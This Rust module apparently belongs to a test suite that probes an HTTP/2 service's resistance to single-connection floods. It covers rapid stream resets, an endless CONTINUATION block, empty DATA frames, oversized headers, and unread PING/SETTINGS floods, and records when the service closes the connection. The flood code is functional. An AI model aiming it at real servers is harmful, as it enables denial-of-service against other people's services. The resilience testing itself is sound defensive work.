//! Frames without end on one connection.

use std::{net::SocketAddr, time::Duration};

use tokio::{io::AsyncWriteExt as _, net::TcpSocket, time::timeout};

use super::{Attacked, call};
use crate::{
    service::PATIENCE,
    wire::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, GET, GOAWAY, HEADERS, PING, Peer,
        RST_STREAM, SETTINGS, frame, literal, next,
    },
};

/// How many requests a flood has.
const FLOOD: u32 = 20_000;
/// How many are sent in one piece: more than a connection may have open, so that a service which answers fast is flooded too.
const PIECE: u32 = 400;

/// What came back until the service closed the connection.
#[derive(Default)]
struct Came {
    /// Those that say that something is wrong. A request that was answered is reset without an error when it has not ended.
    resets: usize,
    goodbye: Option<Frame>,
}

/// Many requests on one connection; what comes back is read meanwhile. Nothing when the service did not close it.
async fn flood(address: SocketAddr, request: impl Fn(u32) -> Vec<u8>) -> Option<Came> {
    let Peer { mut read, mut write } = Peer::connect(address).await.unwrap();
    let reading = tokio::spawn(async move {
        let mut came = Came::default();
        while let Some(frame) = next(&mut read).await {
            came.resets += usize::from(frame.kind == RST_STREAM && frame.code() != Some(0));
            if frame.kind == GOAWAY {
                came.goodbye = Some(frame);
            }
        }
        came
    });
    for piece in 0..FLOOD / PIECE {
        let numbers = piece * PIECE..(piece + 1) * PIECE;
        let requests: Vec<u8> = numbers.flat_map(|number| request(number * 2 + 1)).collect();
        if write.write_all(&requests).await.is_err() {
            break;
        }
    }
    let came = timeout(PATIENCE, reading).await;
    came.ok().map(Result::unwrap)
}

/// Requests that the service resets, of which it takes in as many as it resets.
pub(super) async fn reset(address: SocketAddr, request: impl Fn(u32) -> Vec<u8>) -> Attacked {
    let came = flood(address, request).await;
    Attacked::closed(came.map(|came| came.resets))
}

/// Requests that the client takes back: the service says goodbye, and which stream was the last that it took in.
pub(super) async fn taken_back(address: SocketAddr) -> Attacked {
    let came = flood(address, |stream| {
        let mut frames = frame(HEADERS, END_HEADERS, stream, &GET);
        frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        frames
    });
    let goodbye = came.await.and_then(|came| came.goodbye);
    Attacked::closed(goodbye.map(|goodbye| {
        let last = u32::from_be_bytes(goodbye.payload[..4].try_into().unwrap());
        last.div_ceil(2) as usize
    }))
}

/// One header block that never ends.
///
/// No other frame may come between its frames, so the client cannot ask how many the service has read: what counts is how many were
/// sent before the connection was closed. A frame has the largest size, 16 KiB, and the socket's buffer is small, so few unread
/// frames are in sockets.
pub(super) async fn continuations(address: SocketAddr) -> Attacked {
    let socket = TcpSocket::new_v4().unwrap();
    socket.set_send_buffer_size(64 * 1024).unwrap();
    let (read, write) = socket.connect(address).await.unwrap().into_split();
    let mut peer = Peer::greet(read, write, &[]).await.unwrap();
    let block = literal("x", &"y".repeat(120)).repeat(132);
    peer.send(&frame(HEADERS, 0, 1, &GET)).await;
    for sent in 1..=FLOOD {
        if !peer.send(&frame(CONTINUATION, 0, 1, &block)).await {
            return Attacked::closed(Some(sent as usize));
        }
    }
    Attacked::closed(None)
}

/// Pieces of a body that are empty. A ping after every ten says how far the service is.
pub(super) async fn empty_pieces(address: SocketAddr, token: &str) -> Attacked {
    let mut peer = Peer::connect(address).await.unwrap();
    peer.send(&frame(HEADERS, END_HEADERS, 1, &call(Some(token)))).await;
    let mut ten = frame(DATA, 0, 1, &[]).repeat(10);
    ten.extend(frame(PING, 0, 0, &[7; 8]));
    for tens in 1..=FLOOD / 10 {
        peer.send(&ten).await;
        let pong = async {
            while let Some(frame) = peer.next().await {
                if frame.kind == PING && frame.payload == [7; 8] {
                    return true;
                }
            }
            false
        };
        if !timeout(PATIENCE, pong).await.unwrap_or(true) {
            return Attacked::closed(Some(tens as usize * 10));
        }
    }
    Attacked::closed(None)
}

/// Each within a frame, and over the limit of a header list (RFC 9113, section 10.5.1).
pub(super) async fn long_headers(address: SocketAddr) -> Attacked {
    let long = literal("x", &"y".repeat(120)).repeat(130);
    let block = [&GET[..], &long].concat();
    let Peer { mut read, mut write } = Peer::connect(address).await.unwrap();
    let reading =
        tokio::spawn(async move { while crate::wire::next(&mut read).await.is_some() {} });
    for number in 0..2_000 {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block);
        if write.write_all(&request).await.is_err() {
            break;
        }
    }
    drop(write);
    timeout(PATIENCE, reading).await.unwrap().unwrap();
    Attacked::open(Vec::new(), Vec::new())
}

/// As much as the service accepts while its responses are not read.
pub(super) async fn unread(address: SocketAddr) -> Attacked {
    let mut peer = Peer::connect(address).await.unwrap();
    let both = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat();
    let sending = async {
        for _ in 0..FLOOD {
            if !peer.send(&both).await {
                break;
            }
        }
    };
    // A service that stops reading is right.
    let _ = timeout(Duration::from_secs(2), sending).await;
    Attacked::open(vec![peer], Vec::new())
}
